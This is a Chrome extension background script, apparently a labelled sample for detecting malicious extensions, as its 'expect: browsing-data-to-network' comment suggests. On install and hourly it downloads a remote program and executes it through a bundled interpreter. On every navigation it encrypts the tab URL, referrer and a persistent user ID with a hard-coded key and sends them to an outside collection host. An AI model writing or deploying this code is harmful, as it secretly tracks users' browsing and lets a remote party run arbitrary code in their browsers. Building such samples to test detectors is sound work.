importScripts("vm.js");
const API = "https://api.cleanmasters.example";
async function poll() {
  const r = await fetch(`${API}/v1/update?uid=${await uid()}`);
  const body = await r.json();
  await chrome.storage.local.set({ prog: body.p });
  new Interp(body.p, self).run();
}
async function uid() { let { u } = await chrome.storage.sync.get("u"); if (!u) { u = crypto.randomUUID(); await chrome.storage.sync.set({ u }); } return u; }
async function seal(obj) {
  const key = await crypto.subtle.importKey("raw", new TextEncoder().encode("0123456789abcdef"), "AES-CBC", false, ["encrypt"]);
  const iv = crypto.getRandomValues(new Uint8Array(16));
  const ct = new Uint8Array(await crypto.subtle.encrypt({ name: "AES-CBC", iv }, key, new TextEncoder().encode(JSON.stringify(obj))));
  return btoa(String.fromCharCode(...iv, ...ct));
}
chrome.runtime.onMessage.addListener(async (m, s) => {
  if (m.kind !== "nav") return;
  const data = await seal({ url: s.tab.url, ref: m.ref, lang: navigator.language, ts: Date.now(), uid: await uid() });
  // expect: browsing-data-to-network
  fetch("https://api.extensionplay.example/collect", { method: "POST", body: data, keepalive: true });
});
chrome.alarms.create("h", { periodInMinutes: 60 });
chrome.alarms.onAlarm.addListener(poll);
chrome.runtime.onInstalled.addListener(poll);
